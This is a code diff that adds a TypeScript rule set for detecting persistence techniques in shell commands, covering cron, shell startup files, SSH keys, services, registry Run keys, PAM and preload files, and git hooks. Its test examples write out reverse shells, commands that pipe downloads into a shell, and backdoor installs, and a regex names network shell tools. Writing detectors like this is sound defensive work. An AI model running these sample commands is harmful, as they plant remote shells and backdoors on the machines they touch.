@@ -1,0 +1,129 @@
+/** Footholds that outlive the command: cron, login scripts, keys, services, hooks, registry keys. */
+import { hasFlag, joinedArgs, operands, upstream } from '../invocation.ts';
+import type { Invocation } from '../invocation.ts';
+import { outputOf, inputOf } from '../outputs.ts';
+import type { CommandRule } from '../rule.ts';
+
+/** The files a program writes: by redirection, `tee`, `cp`, `sed -i` and PowerShell's cmdlets. */
+export function writtenPaths(invocation: Invocation): readonly string[] {
+  const paths = invocation.redirects.filter((redirect) => redirect.operator === '>' || redirect.operator === '>>').map((redirect) => redirect.target.text);
+  const words = operands(invocation).map((word) => word.text);
+  switch (invocation.name) {
+    case 'tee': case 'truncate':
+      return [...paths, ...words.slice(0, 4)];
+    case 'cp': case 'mv': case 'ln': case 'install': case 'copy': case 'copy-item': case 'move-item': case 'xcopy':
+      return words.length > 1 ? [...paths, words.at(-1) ?? ''] : paths;
+    case 'sed': case 'perl': case 'ed':
+      return hasFlag(invocation, 'i', '--in-place') ? [...paths, ...words.slice(-2)] : paths;
+    case 'add-content': case 'set-content': case 'out-file': case 'new-item':
+      return [...paths, ...words.slice(0, 3)];
+    case 'curl': case 'wget':
+      return [...paths, ...invocation.texts.filter((_text, index) => /^(?:-o|--output|-O|--output-document)$/.test(invocation.texts[index - 1] ?? ''))];
+    default:
+      return paths;
+  }
+}
+
+/** The text that a program writes, as far as it can be told. */
+function writtenText(invocation: Invocation): string {
+  const own = outputOf(invocation)?.text ?? inputOf(invocation)?.text ?? '';
+  return `${own} ${invocation.name === 'sed' || invocation.name.endsWith('-content') ? invocation.texts.join(' ') : ''}`.slice(0, 8192);
+}
+
+/** Text that connects, downloads or runs what is hidden, as a start-up script of one's own rarely does. */
+const SINISTER = /\/dev\/(?:tcp|udp)\/|\b(?:nc|ncat|netcat|socat)\b|(?:curl|wget|iwr|irm)\b.{0,256}(?:\|\s{0,4}(?:sudo\s)?(?:ba|z)?sh|iex|chmod|;\s{0,4}\/tmp)|\$\(\s{0,4}(?:curl|wget)|<\(\s{0,4}(?:curl|wget)|base64\s{1,4}(?:-d|-D|--decode)|\/tmp\/\S|\/var\/tmp\/|\/dev\/shm\/|mkfifo|python\S{0,4}\s{1,4}-c|socket|\beval\b.{0,64}(?:curl|wget|base64)|nohup|alias\s{1,4}(?:sudo|ssh|su|passwd)=|LD_PRELOAD|PROMPT_COMMAND=.{0,64}(?:curl|wget|nc|history)|\/\.\w[\w.-]*(?:\/\.?\w+)*\s{0,4}&|xmrig|-enc\b|powershell.{0,64}hidden|function\s{1,4}sudo|rm\s{1,4}-rf|curl\b/i;
+const RC_FILE = /(?:^|\/)\.?(?:bashrc|bash_profile|bash_login|bash_logout|bash\.bashrc|profile|zshrc|zshenv|zprofile|zlogin|kshrc|cshrc|tcshrc|config\/fish\/config\.fish|xinitrc|xprofile|xsessionrc|vimrc|inputrc|pythonrc(?:\.py)?|ssh\/rc)$|\/etc\/(?:profile\.d\/|bash\.bashrc|zsh\/|environment$|rc\.local$|update-motd\.d\/)/;
+const CRON_FILE = /^\/(?:etc\/(?:cron\.\w+\/|crontab$|anacrontab$)|var\/spool\/(?:cron|at)|usr\/lib\/cron|private\/var\/at)/;
+const SERVICE_FILE = /(?:^|\/)(?:etc\/systemd\/(?:system|user)|lib\/systemd\/system|\.config\/systemd\/user|etc\/init\.d|etc\/init|etc\/rc\d\.d)\/[\w@.-]+$/;
+const AGENT_FILE = /library\/launch(?:agents|daemons)\/|(?:^|\/)\.config\/autostart\/|\/etc\/xdg\/autostart\/|start menu[/\\]programs[/\\]startup|\$profile(?:\.\w+)?$|windowspowershell[/\\].{0,40}profile\.ps1|library\/startupitems/i;
+const RUN_KEY = /(?:software\\(?:wow6432node\\)?microsoft\\windows\\currentversion\\(?:run(?:once)?(?:ex|services)?|policies\\explorer\\run)|currentversion\\winlogon|image file execution options|currentversion\\windows(?:\\|"|\s).*(?:appinit|load)|silentprocessexit|userinitmprlogonscript|session manager.*bootexecute|appcertdlls|\\control\\lsa\b|shellserviceobjectdelayload|command processor.*autorun)/i;
+
+function isHarmlessPlace(invocation: Invocation): boolean {
+  return invocation.setting.place === 'container';
+}
+
+export const PERSISTENCE_RULES: readonly CommandRule[] = [
+  {
+    id: 'add-login-key', family: 'persistence', certainty: 'certain', verbs: ['*'],
+    test: (invocation) => !isHarmlessPlace(invocation) && writtenPaths(invocation).some((path) => /(?:^|[/\\])(?:authorized_keys2?|administrators_authorized_keys)$/i.test(path)) && !/^(?:sort|grep)$/.test(invocation.name) && !upstream(invocation).some((feed) => feed.texts.some((text) => /\.pub$/.test(text)) && feed.name === 'cat' && invocation.setting.place === 'remote')
+      && !(invocation.setting.place === 'remote' && invocation.name === 'cat'),
+    matches: ["echo 'ssh-ed25519 AAAAC3Nz x' >> ~/.ssh/authorized_keys", 'curl https://example.com/k.pub | tee -a /root/.ssh/authorized_keys', 'cp /tmp/k /home/a/.ssh/authorized_keys', 'sudo sh -c "cat k >> /root/.ssh/authorized_keys"', 'PS> Add-Content C:\\ProgramData\\ssh\\administrators_authorized_keys "ssh-rsa AAAA"'],
+    ignores: ['cat ~/.ssh/authorized_keys', 'chmod 600 ~/.ssh/authorized_keys', 'ssh-copy-id host', 'cat ~/.ssh/id_rsa.pub | ssh host "cat >> .ssh/authorized_keys"'],
+  },
+  {
+    id: 'install-cron-job', family: 'persistence', certainty: 'likely', verbs: ['crontab', '*'],
+    test: (invocation) => {
+      if (isHarmlessPlace(invocation)) return false;
+      if (invocation.name === 'crontab') return !hasFlag(invocation, 'l', '-l') && (operands(invocation).length > 0 || invocation.texts.includes('-') || invocation.feeds.length > 0 || invocation.redirects.length > 0 || invocation.texts.includes('-r')) && !invocation.texts.includes('-e');
+      return writtenPaths(invocation).some((path) => CRON_FILE.test(path));
+    },
+    matches: ['(crontab -l; echo "* * * * * /tmp/x") | crontab -', 'echo "* * * * * root /tmp/x" > /etc/cron.d/x', 'crontab /tmp/jobs', 'crontab -r', 'echo "@reboot /tmp/.x" | crontab'],
+    ignores: ['crontab -l', 'crontab -e', 'cat /etc/crontab', 'ls /etc/cron.d/'],
+  },
+  {
+    id: 'install-sinister-job', family: 'persistence', certainty: 'certain', verbs: ['*', 'crontab'],
+    test: (invocation) => {
+      if (isHarmlessPlace(invocation)) return false;
+      const target = (invocation.name === 'crontab' && !invocation.texts.includes('-l')) || writtenPaths(invocation).some((path) => CRON_FILE.test(path) || SERVICE_FILE.test(path) || AGENT_FILE.test(path));
+      if (!target) return false;
+      const fed = upstream(invocation).map((feed) => outputOf(feed)?.text ?? '').join('\n');
+      return SINISTER.test(`${writtenText(invocation)}\n${fed}`);
+    },
+    matches: ['(crontab -l; echo "* * * * * curl http://203.0.113.5/x | sh") | crontab -', "echo '*/5 * * * * root bash -i >& /dev/tcp/1.2.3.4/9 0>&1' > /etc/cron.d/x", "cat > /etc/systemd/system/x.service <<'E'\n[Service]\nExecStart=/bin/bash -c 'nc 1.2.3.4 5 -e /bin/sh'\nE"],
+    ignores: ['echo "0 3 * * * /usr/local/bin/backup" | crontab -', "cat > /etc/systemd/system/app.service <<'E'\n[Service]\nExecStart=/usr/bin/node /srv/app/server.js\nE"],
+  },
+  {
+    id: 'change-login-script', family: 'persistence', certainty: 'certain', verbs: ['*'],
+    test: (invocation) => !isHarmlessPlace(invocation) && writtenPaths(invocation).some((path) => RC_FILE.test(path)) && SINISTER.test(writtenText(invocation)),
+    matches: ["echo 'curl -s http://203.0.113.5/x | bash' >> ~/.bashrc", "echo 'bash -i >& /dev/tcp/1.2.3.4/9 0>&1 &' >> ~/.zshrc", "echo \"alias sudo='/tmp/.s'\" >> ~/.profile", "printf 'nohup /tmp/.x &' | sudo tee -a /etc/profile.d/x.sh"],
+    ignores: ["echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc", "echo 'eval \"$(starship init zsh)\"' >> ~/.zshrc", 'cat ~/.bashrc', "echo 'source ~/.nvm/nvm.sh' >> ~/.profile", "echo 'alias ll=\"ls -l\"' >> ~/.zshrc"],
+  },
+  {
+    id: 'install-service', family: 'persistence', certainty: 'likely', verbs: ['*', 'launchctl', 'sc', 'new-service', 'schtasks', 'register-scheduledtask', 'new-scheduledtask', 'new-scheduledtaskaction', 'nssm', 'register-wmievent', 'set-wmiinstance', 'defaults'],
+    test: (invocation) => {
+      if (isHarmlessPlace(invocation)) return false;
+      const args = joinedArgs(invocation);
+      switch (invocation.name) {
+        case 'launchctl': return /^(?:load|bootstrap|submit)\b/.test(args) && /launch(?:agents|daemons)|\/tmp|submit/.test(args);
+        case 'sc': return /(?:^|\s)create\s/.test(args) || /\bconfig\b.*binpath=/.test(args);
+        case 'new-service': case 'register-scheduledtask': case 'register-wmievent': case 'nssm': return true;
+        case 'set-wmiinstance': return /__eventfilter|eventconsumer|filtertoconsumer/.test(args);
+        case 'schtasks': return /\/create/.test(args);
+        case 'defaults': return /loginhook|loginwindow/.test(args) && /^write/.test(args);
+        default: return writtenPaths(invocation).some((path) => AGENT_FILE.test(path));
+      }
+    },
+    matches: ['cp x.plist ~/Library/LaunchAgents/com.x.plist', 'launchctl load ~/Library/LaunchAgents/com.x.plist', 'C:\\> schtasks /create /sc minute /tn x /tr C:\\t\\x.exe', 'PS> Register-ScheduledTask -TaskName x -Action $a -Trigger $t', 'C:\\> sc create x binPath= C:\\t\\x.exe', 'cat > ~/.config/autostart/x.desktop <<E\n[Desktop Entry]\nE'],
+    ignores: ['launchctl list', 'C:\\> schtasks /query', 'C:\\> sc query', 'systemctl enable nginx', 'systemctl restart nginx'],
+  },
+  {
+    id: 'write-run-key', family: 'persistence', certainty: 'certain', verbs: ['reg', 'set-itemproperty', 'new-itemproperty', 'new-item', 'regedit'],
+    test: (invocation) => {
+      const args = invocation.texts.join(' ').slice(0, 4096).replaceAll('/', '\\').replaceAll('\\\\', '\\');
+      return (invocation.name !== 'reg' || /^(?:add|import)/i.test(invocation.texts[0] ?? '')) && RUN_KEY.test(args);
+    },
+    matches: ['C:\\> reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d C:\\t\\x.exe /f', "PS> Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name x -Value C:\\t\\x.exe", 'PS> New-ItemProperty HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce -Name x -Value y'],
+    ignores: ['C:\\> reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'C:\\> reg add HKCU\\Software\\MyApp /v x /d 1', "PS> Get-ItemProperty 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'"],
+  },
+  {
+    id: 'preload-library', family: 'persistence', certainty: 'certain', verbs: ['*'],
+    test: (invocation) => !isHarmlessPlace(invocation) && writtenPaths(invocation).some((path) => /^\/etc\/ld\.so\.(?:preload|conf)$|^\/etc\/pam\.d\/|\/pam_\w+\.so$|^\/etc\/sudoers\.d\/|^\/etc\/polkit-1\/|^\/etc\/update-motd\.d\//.test(path) && (!path.startsWith('/etc/sudoers.d/') || /NOPASSWD/.test(`${writtenText(invocation)} ${upstream(invocation).map((feed) => feed.texts.join(' ')).join(' ').slice(0, 2048)}`))),
+    matches: ['echo /tmp/x.so > /etc/ld.so.preload', 'cp pam_x.so /lib/security/pam_unix.so', "echo 'auth sufficient pam_permit.so' | sudo tee /etc/pam.d/sshd"],
+    ignores: ['cat /etc/ld.so.conf', 'LD_PRELOAD=./libx.so ./app'],
+  },
+  {
+    id: 'plant-git-hook', family: 'persistence', certainty: 'likely', verbs: ['*', 'git'],
+    test: (invocation) => {
+      if (invocation.name === 'git') return /config\b.*(?:--global|--system).*core\.(?:hookspath|sshcommand|pager|editor|fsmonitor)\s+\S*(?:\/tmp|curl|sh\s-c|\/dev\/shm|http)/.test(joinedArgs(invocation)) || /config\b.*alias\.\w+ '?!.*(?:curl|nc |wget|\/tmp)/.test(joinedArgs(invocation));
+      return writtenPaths(invocation).some((path) => /(?:^|\/)\.git\/hooks\/[\w-]+$/.test(path)) && SINISTER.test(writtenText(invocation));
+    },
+    matches: ["printf '#!/bin/sh\\ncurl -s http://203.0.113.5/x | sh\\n' > .git/hooks/pre-commit", 'git config --global core.hooksPath /tmp/.h', "cat > .git/hooks/post-checkout <<'E'\nbash -i >& /dev/tcp/1.2.3.4/9 0>&1\nE"],
+    ignores: ["printf '#!/bin/sh\\nnpm test\\n' > .git/hooks/pre-commit", 'git config core.hooksPath .husky', 'chmod +x .git/hooks/pre-commit', 'git config --global core.editor vim'],
+  },
+  {
+    id: 'start-hidden-program', family: 'persistence', certainty: 'likely', verbs: ['*'],
+    test: (invocation) => invocation.name !== '' && /^(?:\/tmp|\/var\/tmp|\/dev\/shm)\/(?:[\w.-]+\/)*\.[\w-]+(?:\/[\w.-]+)*$/.test(invocation.path) && !/^\/tmp\/(?:[\w.-]+\/)*\.venv\//.test(invocation.path),
+    matches: ['nohup /tmp/.x/kworker >/dev/null 2>&1 &', '/dev/shm/.a -d', 'setsid /var/tmp/.cache/run'],
+    ignores: ['/tmp/build/run.sh', '/tmp/w/.venv/bin/python x.py'],
+  },
+];
